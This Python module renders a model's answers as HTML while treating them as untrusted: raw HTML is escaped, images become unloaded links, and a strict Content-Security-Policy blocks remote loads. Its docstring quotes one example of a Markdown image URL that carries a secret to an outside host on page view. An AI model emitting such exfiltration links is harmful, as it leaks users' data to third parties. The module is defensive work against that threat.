"""Answers exported as HTML: a fragment for the page and a standalone document (the "open as HTML" buttons).

Markdown is rendered with raw HTML switched off: a model's answer is untrusted
text, so any HTML in it shows as text instead of running in the page. Images
become plain links: loading `![x](https://host/pixel?secret)` would let an answer
report back to a server the moment it is viewed, so nothing is fetched unless the
user clicks. The standalone page also carries a Content-Security-Policy that
forbids every remote load, in case some other element slips through.
"""

from __future__ import annotations

import html
from collections.abc import Sequence
from typing import Any, Protocol

from markdown_it import MarkdownIt
from markdown_it.renderer import RendererHTML
from markdown_it.token import Token


class TitledText(Protocol):
    """One answer to export: its heading and its Markdown (the page's AnswerEntry is one)."""

    @property
    def title(self) -> str: ...

    @property
    def text(self) -> str: ...


PAGE_STYLE = """
body { font: 16px/1.6 system-ui, -apple-system, "Segoe UI", sans-serif; max-width: 52rem; margin: 2rem auto;
       padding: 0 1rem; background: #0f1117; color: #e6e6e6; }
a { color: #8ab4f8; }
h1 { font-size: 1.3rem; } h2 { font-size: 1.1rem; border-bottom: 1px solid #333; padding-bottom: .2rem; }
pre { background: #1b1e27; padding: .8rem; overflow-x: auto; border-radius: 6px; }
code { font-family: ui-monospace, "Cascadia Code", Menlo, Consolas, monospace; }
table { border-collapse: collapse; } th, td { border: 1px solid #444; padding: .3rem .6rem; }
blockquote { border-left: 3px solid #555; margin-left: 0; padding-left: 1rem; color: #bbb; }
"""


# The standalone page may use only its own inline style: no scripts, no images, fonts or frames from anywhere.
PAGE_POLICY = "default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'"


def _image_as_link(renderer: RendererHTML, tokens: Sequence[Token], idx: int, options: Any, env: Any) -> str:
    """An image is shown as a link to it (alt text and address), never loaded."""
    token = tokens[idx]
    source = str(token.attrGet("src") or "")
    alt = renderer.renderInlineAsText(token.children or [], options, env) or "image"
    label = html.escape(f"[image: {alt}] {source}")
    return f'<a class="image-link" href="{html.escape(source)}" rel="noreferrer noopener">{label}</a>'


def _renderer() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False}).enable(
        ["table", "strikethrough"]
    )
    md.add_render_rule("image", _image_as_link)
    return md


def render_markdown(text: str) -> str:
    """One answer's Markdown as an HTML fragment (raw HTML in the text is escaped)."""
    return _renderer().render(text)


def answers_fragment(entries: Sequence[TitledText]) -> str:
    """The answers as HTML sections, each titled with its model and item."""
    renderer = _renderer()
    parts = []
    for entry in entries:
        parts.append(
            f'<section class="answer"><h2>{html.escape(entry.title)}</h2>\n{renderer.render(entry.text)}</section>'
        )
    return "\n".join(parts)


def answers_page(entries: Sequence[TitledText], title: str) -> str:
    """A standalone HTML document of the answers, for a new browser tab."""
    return (
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\">"
        f'<meta http-equiv="Content-Security-Policy" content="{PAGE_POLICY}">'
        '<meta name="referrer" content="no-referrer">'
        f"<title>{html.escape(title)}</title><style>{PAGE_STYLE}</style></head>"
        f"<body><h1>{html.escape(title)}</h1>\n{answers_fragment(entries)}\n</body></html>\n"
    )
